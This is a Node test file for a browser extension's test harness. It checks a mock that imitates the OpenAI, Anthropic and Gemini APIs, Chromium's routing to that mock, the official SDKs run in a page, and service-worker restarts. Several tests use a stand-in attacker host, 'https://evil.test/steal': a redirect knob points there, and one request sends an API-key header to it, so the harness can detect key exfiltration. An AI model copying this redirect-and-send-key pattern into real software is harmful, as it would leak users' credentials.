// Tests of the harness itself: the provider mock speaks each wire format and records what it
// gets; Chromium really sends provider hosts to it; the official SDKs, run directly in a page,
// accept its answers (the baseline the extension must match); and a service-worker stop is a
// real stop. Needs the extension only to load, not to work.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { after, before, describe, test } from 'node:test';
import { startHarness } from './lib/fixture.mjs';
import { REPLY_SUFFIX, SPEECH_SHA256, replyText, requestMock, startMock } from './lib/mock-providers.mjs';

const OPENAI = 'api.openai.com';
const ANTHROPIC = 'api.anthropic.com';
const GEMINI = 'generativelanguage.googleapis.com';

/** Splits an SSE body into `{event, data}` frames (either line ending). */
function sseFrames(text) {
  return text
    .split(/\r?\n\r?\n/)
    .filter((f) => f.trim())
    .map((f) => {
      const lines = f.split(/\r?\n/);
      return {
        event: lines.find((l) => l.startsWith('event: '))?.slice(7) ?? null,
        data: lines.filter((l) => l.startsWith('data: ')).map((l) => l.slice(6)).join('\n'),
      };
    });
}

describe('provider mock, from Node', () => {
  let mock;
  before(async () => {
    mock = await startMock();
  });
  after(async () => {
    await mock?.close();
  });

  test('OpenAI chat completions: JSON, and SSE with a usage chunk and [DONE]', async () => {
    mock.clear();
    const json = await requestMock(mock.port, OPENAI, {
      method: 'POST',
      path: '/v1/chat/completions',
      headers: { authorization: 'Bearer sk-node-test' },
      body: { model: 'gpt-4o-mini', messages: [{ role: 'user', content: 'hello' }] },
    });
    assert.equal(json.status, 200);
    const parsed = JSON.parse(json.text());
    assert.equal(parsed.object, 'chat.completion');
    assert.equal(parsed.choices[0].message.content, replyText('hello'));

    const sse = await requestMock(mock.port, OPENAI, {
      method: 'POST',
      path: '/v1/chat/completions',
      body: { model: 'gpt-4o-mini', stream: true, stream_options: { include_usage: true }, messages: [{ role: 'user', content: 'hi' }] },
    });
    assert.match(sse.headers['content-type'], /^text\/event-stream/);
    const frames = sseFrames(sse.text());
    assert.equal(frames.at(-1).data, '[DONE]');
    const chunks = frames.slice(0, -1).map((f) => JSON.parse(f.data));
    assert.equal(chunks.map((c) => c.choices[0]?.delta?.content ?? '').join(''), replyText('hi'));
    assert.equal(chunks.at(-1).choices.length, 0, 'last chunk before [DONE] is the usage chunk');
    assert.ok(chunks.at(-1).usage.total_tokens > 0);
    assert.ok(chunks.length > 3, 'the answer comes in several deltas');

    const rec = mock.requests[0];
    assert.equal(rec.host, OPENAI);
    assert.equal(rec.method, 'POST');
    assert.equal(rec.path, '/v1/chat/completions');
    assert.equal(rec.headers.authorization, 'Bearer sk-node-test');
    assert.equal(rec.bodySha256, createHash('sha256').update(rec.bodyText).digest('hex'));
    assert.equal(rec.bodyLength, Buffer.byteLength(rec.bodyText));
    assert.equal(rec.closedEarly, false);
    assert.equal(rec.attacker, false);
    assert.deepEqual(mock.hostsSeen(), [OPENAI]);
  });

  test('OpenAI responses (JSON and events), models, files and speech', async () => {
    const resp = JSON.parse((await requestMock(mock.port, OPENAI, { method: 'POST', path: '/v1/responses', body: { model: 'gpt-4o', input: 'q' } })).text());
    assert.equal(resp.object, 'response');
    assert.equal(resp.output[0].content[0].text, replyText('q'));

    const events = sseFrames((await requestMock(mock.port, OPENAI, { method: 'POST', path: '/v1/responses', body: { model: 'gpt-4o', input: 'q', stream: true } })).text());
    assert.equal(events[0].event, 'response.created');
    assert.equal(events.at(-1).event, 'response.completed');
    const deltas = events.filter((e) => e.event === 'response.output_text.delta').map((e) => JSON.parse(e.data).delta);
    assert.equal(deltas.join(''), replyText('q'));
    for (const e of events) assert.equal(JSON.parse(e.data).type, e.event);

    const models = JSON.parse((await requestMock(mock.port, OPENAI, { path: '/v1/models' })).text());
    assert.equal(models.object, 'list');
    assert.ok(models.data.some((m) => m.id === 'gpt-4o-mini'));

    const file = Buffer.from([0, 1, 2, 255, 254, 10, 13, 10, ...Buffer.from('--not-a-boundary\r\n')]);
    const boundary = 'XyZboundary123';
    const multipart = Buffer.concat([
      Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="purpose"\r\n\r\nuser_data\r\n`),
      Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="a.bin"\r\nContent-Type: application/octet-stream\r\n\r\n`),
      file,
      Buffer.from(`\r\n--${boundary}--\r\n`),
    ]);
    const up = JSON.parse(
      (await requestMock(mock.port, OPENAI, {
        method: 'POST',
        path: '/v1/files',
        headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
        body: multipart,
      })).text(),
    );
    assert.equal(up.bytes, file.length);
    assert.equal(up.sha256, createHash('sha256').update(file).digest('hex'));
    assert.equal(up.filename, 'a.bin');
    assert.equal(up.purpose, 'user_data');

    const speech = await requestMock(mock.port, OPENAI, { method: 'POST', path: '/v1/audio/speech', body: { model: 'tts-1', input: 'x', voice: 'alloy' } });
    assert.equal(speech.headers['content-type'], 'audio/mpeg');
    assert.equal(speech.body.length, 300 * 1024);
    assert.equal(createHash('sha256').update(speech.body).digest('hex'), SPEECH_SHA256);
  });

  test('Anthropic messages: JSON and the full SSE event sequence; models', async () => {
    const msg = JSON.parse((await requestMock(mock.port, ANTHROPIC, { method: 'POST', path: '/v1/messages', body: { model: 'claude-sonnet-4-5', max_tokens: 10, messages: [{ role: 'user', content: 'yo' }] } })).text());
    assert.equal(msg.type, 'message');
    assert.equal(msg.content[0].text, replyText('yo'));

    const frames = sseFrames((await requestMock(mock.port, ANTHROPIC, { method: 'POST', path: '/v1/messages', body: { model: 'claude-sonnet-4-5', max_tokens: 10, stream: true, messages: [{ role: 'user', content: 'yo' }] } })).text());
    const names = frames.map((f) => f.event).filter((e) => e !== 'ping');
    const deltas = names.filter((n) => n === 'content_block_delta').length;
    assert.ok(deltas > 1);
    assert.deepEqual(names, ['message_start', 'content_block_start', ...Array(deltas).fill('content_block_delta'), 'content_block_stop', 'message_delta', 'message_stop']);
    const text = frames.filter((f) => f.event === 'content_block_delta').map((f) => JSON.parse(f.data).delta.text).join('');
    assert.equal(text, replyText('yo'));
    assert.ok(JSON.parse(frames.find((f) => f.event === 'message_delta').data).usage.output_tokens > 0);

    const models = JSON.parse((await requestMock(mock.port, ANTHROPIC, { path: '/v1/models' })).text());
    assert.equal(models.has_more, false);
    assert.ok(models.data.length > 0);
  });

  test('Gemini generateContent and streamGenerateContent, under v1beta and v1', async () => {
    for (const version of ['v1beta', 'v1']) {
      const body = { contents: [{ role: 'user', parts: [{ text: 'g' }] }] };
      const one = JSON.parse((await requestMock(mock.port, GEMINI, { method: 'POST', path: `/${version}/models/gemini-2.5-flash:generateContent`, body })).text());
      assert.equal(one.candidates[0].content.parts[0].text, replyText('g'));
      assert.equal(one.candidates[0].finishReason, 'STOP');

      const frames = sseFrames((await requestMock(mock.port, GEMINI, { method: 'POST', path: `/${version}/models/gemini-2.5-flash:streamGenerateContent?alt=sse`, body })).text());
      const chunks = frames.map((f) => JSON.parse(f.data));
      assert.equal(chunks.map((c) => c.candidates[0].content.parts[0].text).join(''), replyText('g'));
      assert.equal(chunks.at(-1).candidates[0].finishReason, 'STOP');
    }
    const rec = mock.requests.at(-1);
    assert.equal(rec.path, '/v1/models/gemini-2.5-flash:streamGenerateContent');
    assert.equal(rec.query, 'alt=sse');
  });

  test('knobs: 429 and 500 in each provider format, redirect, attacker host, CORS preflight', async () => {
    const e429 = await requestMock(mock.port, OPENAI, { method: 'POST', path: '/v1/chat/completions', body: { model: 'gpt-mock-429', messages: [] } });
    assert.equal(e429.status, 429);
    assert.ok(e429.headers['retry-after'] !== undefined);
    assert.ok(e429.headers['x-request-id']);
    assert.equal(JSON.parse(e429.text()).error.code, 'rate_limit_exceeded');

    const a429 = await requestMock(mock.port, ANTHROPIC, { method: 'POST', path: '/v1/messages', body: { model: 'mock-429', messages: [] } });
    assert.equal(a429.status, 429);
    assert.ok(a429.headers['request-id']);
    assert.equal(JSON.parse(a429.text()).error.type, 'rate_limit_error');

    const g500 = await requestMock(mock.port, GEMINI, { method: 'POST', path: '/v1beta/models/mock-500:generateContent', body: { contents: [] } });
    assert.equal(g500.status, 500);
    assert.equal(JSON.parse(g500.text()).error.status, 'INTERNAL');

    const byHeader = await requestMock(mock.port, OPENAI, { path: '/v1/models', headers: { 'x-mock': '500' } });
    assert.equal(byHeader.status, 500);

    const redirect = await requestMock(mock.port, OPENAI, { method: 'POST', path: '/v1/chat/completions', body: { model: 'mock-redirect', messages: [] } });
    assert.equal(redirect.status, 302);
    assert.equal(redirect.headers.location, 'https://evil.test/steal');

    mock.clear();
    await requestMock(mock.port, 'evil.test', { path: '/steal', headers: { 'x-api-key': 'leaked' } });
    assert.equal(mock.attackerHits().length, 1);
    assert.equal(mock.attackerHits()[0].headers['x-api-key'], 'leaked');

    const pre = await requestMock(mock.port, ANTHROPIC, {
      method: 'OPTIONS',
      path: '/v1/messages',
      headers: { origin: 'http://127.0.0.1:1', 'access-control-request-method': 'POST', 'access-control-request-headers': 'x-api-key,content-type' },
    });
    assert.equal(pre.status, 204);
    assert.equal(pre.headers['access-control-allow-origin'], 'http://127.0.0.1:1');
    assert.notEqual(pre.headers['access-control-allow-headers'], '*');
    assert.match(pre.headers['access-control-allow-headers'], /\bx-api-key\b/);
    assert.ok(Number(pre.headers['access-control-max-age']) > 0);
  });

  test('Anthropic refuses a browser-origin request without the direct-browser-access opt-in', async () => {
    const body = { model: 'claude-sonnet-4-5', max_tokens: 5, messages: [{ role: 'user', content: 'c' }] };
    const refused = await requestMock(mock.port, ANTHROPIC, { method: 'POST', path: '/v1/messages', headers: { origin: 'chrome-extension://abc' }, body });
    assert.equal(refused.status, 401);
    assert.equal(JSON.parse(refused.text()).error.type, 'authentication_error');
    assert.equal(refused.headers['access-control-allow-origin'], undefined);
    const allowed = await requestMock(mock.port, ANTHROPIC, {
      method: 'POST',
      path: '/v1/messages',
      headers: { origin: 'chrome-extension://abc', 'anthropic-dangerous-direct-browser-access': 'true' },
      body,
    });
    assert.equal(allowed.status, 200);
    const noOrigin = await requestMock(mock.port, ANTHROPIC, { method: 'POST', path: '/v1/messages', body });
    assert.equal(noOrigin.status, 200);
  });

  test('slow stream: the mock records a client that leaves early', async () => {
    mock.clear();
    await requestMock(mock.port, OPENAI, {
      method: 'POST',
      path: '/v1/chat/completions',
      body: { model: 'mock-slow', stream: true, messages: [{ role: 'user', content: 's' }] },
      onResponse: (res, req) => {
        res.once('data', () => req.destroy());
        return false;
      },
    });
    const rec = await mock.waitFor((r) => r.closedEarly);
    assert.equal(rec.route, 'openai.chat.stream');
    assert.equal(rec.finished, false);
  });
});

describe('Chromium with the extension, against the mock', () => {
  let h;
  before(async () => {
    h = await startHarness();
  });
  after(async () => {
    await h?.teardown();
  });

  test('the extension loads and its service worker runs', async () => {
    assert.match(h.browser.extensionId, /^[a-p]{32}$/);
    assert.equal(await h.browser.serviceWorkerStatus(), 'running');
    assert.equal(await h.browser.serviceWorker.evaluate(() => typeof chrome.runtime.id), 'string');
  });

  test('a page on 127.0.0.1 reaches the mock at https://api.openai.com (host-resolver-rules)', async () => {
    h.mock.clear();
    const page = await h.newPage('/');
    const got = await page.evaluate(async () => {
      const r = await fetch('https://api.openai.com/v1/models', { headers: { authorization: 'Bearer sk-page-direct' } });
      return { status: r.status, route: r.headers.get('x-mock-route'), body: await r.json() };
    });
    assert.equal(got.status, 200);
    assert.equal(got.route, 'openai.models');
    assert.ok(got.body.data.some((m) => m.id === 'gpt-4o-mini'));
    const rec = h.mock.calls(OPENAI).at(-1);
    assert.equal(rec.path, '/v1/models');
    assert.equal(rec.headers.origin, h.pages.a.origin);
    assert.equal(rec.headers.authorization, 'Bearer sk-page-direct');
    assert.equal(rec.httpVersion, '2.0', 'Chromium speaks HTTP/2 to the mock, as to the real providers');
    assert.ok(h.mock.requests.some((r) => r.method === 'OPTIONS'), 'the authorization header made Chromium send a preflight');

    const evil = await page.evaluate(async () => (await fetch('https://evil.test/steal')).json());
    assert.equal(evil.stolen, true);
    assert.equal(h.mock.attackerHits().length, 1);

    // Any other name resolves to nothing: no request can leave the machine.
    const outside = await page.evaluate(async () => {
      try {
        await fetch('https://example.com/', { mode: 'no-cors' });
        return 'reached';
      } catch (error) {
        return error.name;
      }
    });
    assert.equal(outside, 'TypeError');
    assert.ok(!h.mock.hostsSeen().includes('example.com'));
    await page.close();
  });

  test('a page abort closes the connection at the mock (closedEarly)', async () => {
    h.mock.clear();
    const page = await h.newPage('/');
    const first = await page.evaluate(async () => {
      const ctrl = new AbortController();
      const r = await fetch('https://api.openai.com/v1/chat/completions', {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ model: 'mock-slow', stream: true, messages: [{ role: 'user', content: 'x' }] }),
        signal: ctrl.signal,
      });
      const reader = r.body.getReader();
      const { value } = await reader.read();
      ctrl.abort();
      return new TextDecoder().decode(value);
    });
    assert.match(first, /^data: /);
    const rec = await h.mock.waitFor((r) => r.closedEarly && r.path === '/v1/chat/completions');
    assert.equal(rec.finished, false);
    await page.close();
  });

  test('the official SDKs, run directly in a page, accept the mock (baseline)', async () => {
    const page = await h.newPage('/sdk.html');
    await page.waitForFunction(() => document.documentElement.dataset.sdk);
    assert.equal(await page.evaluate(() => window.SDK_ERROR ?? null), null);
    h.mock.clear();
    const out = await page.evaluate(async () => {
      const { OpenAI, Anthropic, GoogleGenAI, ai, createOpenAI, createAnthropic } = window.SDK;
      const r = {};
      const openai = new OpenAI({ apiKey: 'sk-direct-openai', dangerouslyAllowBrowser: true, maxRetries: 0 });
      r.chat = (await openai.chat.completions.create({ model: 'gpt-4o-mini', messages: [{ role: 'user', content: 'o1' }] })).choices[0].message.content;
      let streamed = '';
      const s = await openai.chat.completions.create({ model: 'gpt-4o-mini', stream: true, stream_options: { include_usage: true }, messages: [{ role: 'user', content: 'o2' }] });
      for await (const c of s) streamed += c.choices[0]?.delta?.content ?? '';
      r.chatStream = streamed;
      r.responses = (await openai.responses.create({ model: 'gpt-4o', input: 'o3' })).output_text;
      // SSE split every 5 bytes (inside frames and UTF-8 sequences), and gzip-encoded SSE.
      for (const knob of ['split', 'gzip']) {
        let t = '';
        const st = await openai.chat.completions.create({ model: `gpt-4o-mock-${knob}`, stream: true, messages: [{ role: 'user', content: knob }] });
        for await (const c of st) t += c.choices[0]?.delta?.content ?? '';
        r[knob] = t;
      }
      try {
        await openai.chat.completions.create({ model: 'mock-429', messages: [{ role: 'user', content: 'x' }] });
      } catch (e) {
        r.err429 = { status: e.status, name: e.constructor.name, requestId: e.requestID ?? e.request_id ?? null };
      }
      const file = new File([new Uint8Array([1, 2, 3, 4, 5])], 'five.bin', { type: 'application/octet-stream' });
      r.upload = await openai.files.create({ file, purpose: 'user_data' });
      const speech = await openai.audio.speech.create({ model: 'tts-1', voice: 'alloy', input: 'x' });
      const audio = new Uint8Array(await speech.arrayBuffer());
      r.speechSha = [...new Uint8Array(await crypto.subtle.digest('SHA-256', audio))].map((b) => b.toString(16).padStart(2, '0')).join('');

      const anthropic = new Anthropic({ apiKey: 'sk-ant-direct', dangerouslyAllowBrowser: true, maxRetries: 0 });
      r.anthropic = (await anthropic.messages.create({ model: 'claude-sonnet-4-5', max_tokens: 64, messages: [{ role: 'user', content: 'a1' }] })).content[0].text;
      const as = anthropic.messages.stream({ model: 'claude-sonnet-4-5', max_tokens: 64, messages: [{ role: 'user', content: 'a2' }] });
      r.anthropicStream = (await as.finalMessage()).content[0].text;

      const gemini = new GoogleGenAI({ apiKey: 'gm-direct' });
      r.gemini = (await gemini.models.generateContent({ model: 'gemini-2.5-flash', contents: 'g1' })).text;
      let gs = '';
      for await (const c of await gemini.models.generateContentStream({ model: 'gemini-2.5-flash', contents: 'g2' })) gs += c.text ?? '';
      r.geminiStream = gs;

      const oai = createOpenAI({ apiKey: 'sk-ai-sdk' });
      r.aiResponses = (await ai.generateText({ model: oai('gpt-4o'), prompt: 'v1' })).text;
      const st = ai.streamText({ model: oai.chat('gpt-4o-mini'), prompt: 'v2' });
      let t = '';
      for await (const d of st.textStream) t += d;
      r.aiChatStream = t;
      // @ai-sdk/anthropic does not opt in to browser access by itself; the real API needs it.
      const ant = createAnthropic({ apiKey: 'sk-ant-ai-sdk', headers: { 'anthropic-dangerous-direct-browser-access': 'true' } });
      r.aiAnthropic = (await ai.generateText({ model: ant('claude-sonnet-4-5'), prompt: 'v3' })).text;
      return r;
    });
    assert.equal(out.chat, replyText('o1'));
    assert.equal(out.chatStream, replyText('o2'));
    assert.equal(out.responses, replyText('o3'));
    assert.equal(out.split, replyText('split'));
    assert.equal(out.gzip, replyText('gzip'));
    assert.equal(out.err429.status, 429);
    assert.ok(out.err429.requestId);
    assert.equal(out.upload.bytes, 5);
    assert.equal(out.upload.sha256, createHash('sha256').update(Buffer.from([1, 2, 3, 4, 5])).digest('hex'));
    assert.equal(out.speechSha, SPEECH_SHA256);
    assert.equal(out.anthropic, replyText('a1'));
    assert.equal(out.anthropicStream, replyText('a2'));
    assert.equal(out.gemini, replyText('g1'));
    assert.equal(out.geminiStream, replyText('g2'));
    assert.equal(out.aiResponses, replyText('v1'));
    assert.equal(out.aiChatStream, replyText('v2'));
    assert.equal(out.aiAnthropic, replyText('v3'));
    assert.ok(out.chatStream.endsWith(REPLY_SUFFIX));

    // Each SDK authenticated the way HOUSE_STYLE says it does, and all went to the mock.
    const calls = h.mock.calls();
    assert.ok(calls.some((c) => c.host === OPENAI && c.headers.authorization === 'Bearer sk-direct-openai'));
    assert.ok(calls.some((c) => c.host === GEMINI && c.headers['x-goog-api-key'] === 'gm-direct'));
    assert.ok(calls.some((c) => c.host === ANTHROPIC && c.headers['x-api-key'] === 'sk-ant-ai-sdk'));
    assert.deepEqual(new Set(h.mock.hostsSeen()), new Set([OPENAI, ANTHROPIC, GEMINI]));
    assert.equal(h.mock.attackerHits().length, 0);
    await page.close();
  });

  test('stopServiceWorker really stops the worker; a runtime message wakes a fresh one', async () => {
    const before = h.browser.serviceWorker;
    await before.evaluate(() => {
      globalThis.__keyfobE2eProbe = 'set-before-stop';
    });
    assert.equal(await before.evaluate(() => globalThis.__keyfobE2eProbe), 'set-before-stop');

    await h.browser.stopServiceWorker();
    assert.equal(await h.browser.serviceWorkerStatus(), 'stopped');

    await h.browser.wakeServiceWorker({ cmd: 'vault.status' });
    assert.equal(await h.browser.serviceWorkerStatus(), 'running');
    const after = h.browser.serviceWorker;
    // A new JS realm: the global set before the stop is gone.
    assert.equal(await after.evaluate(() => globalThis.__keyfobE2eProbe ?? null), null);
  });
});
